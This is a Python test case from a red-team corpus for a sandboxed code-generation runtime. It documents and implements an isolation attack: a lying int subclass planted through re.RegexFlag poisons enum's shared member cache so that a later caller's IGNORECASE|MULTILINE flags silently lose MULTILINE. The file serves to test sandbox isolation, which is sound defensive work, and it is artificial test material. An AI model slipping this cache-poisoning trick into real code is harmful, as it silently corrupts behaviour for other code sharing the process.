# Red-team corpus for the sandboxed code-generation runtime.
# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
# {'escaped': True, ...} means the attack WORKED (sandbox failure).
# @id: poison_regexflag_map
# @category: isolation
# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
# @layer: both
# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
# @victim: victim_regexflag_map
# @source: enum.Flag caches composite members in _value2member_map_; an int subclass lying in __eq__/__hash__
# Attempt: Call re.RegexFlag(Flag(2)) where Flag hashes like 10 and equals everything: enum stores
#   the new pseudo-member (value IGNORECASE only) under a key equal to 10, so a later call's re.I
#   | re.M (value 10) gets IGNORECASE without MULTILINE.
# Safe sandbox must: keep the process-wide enum cache clean (fresh process, or refuse lying int
#   subclasses as enum values); the victim must get MULTILINE.
# Note: the file raises at the end, so its outcome is an error whether the sandbox refuses the
#   write or allows it; the victim decides.

import re


class Flag(int):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return 10


def run(inputs):
    re.RegexFlag(Flag(2))
    raise RuntimeError("RegexFlag map planted")
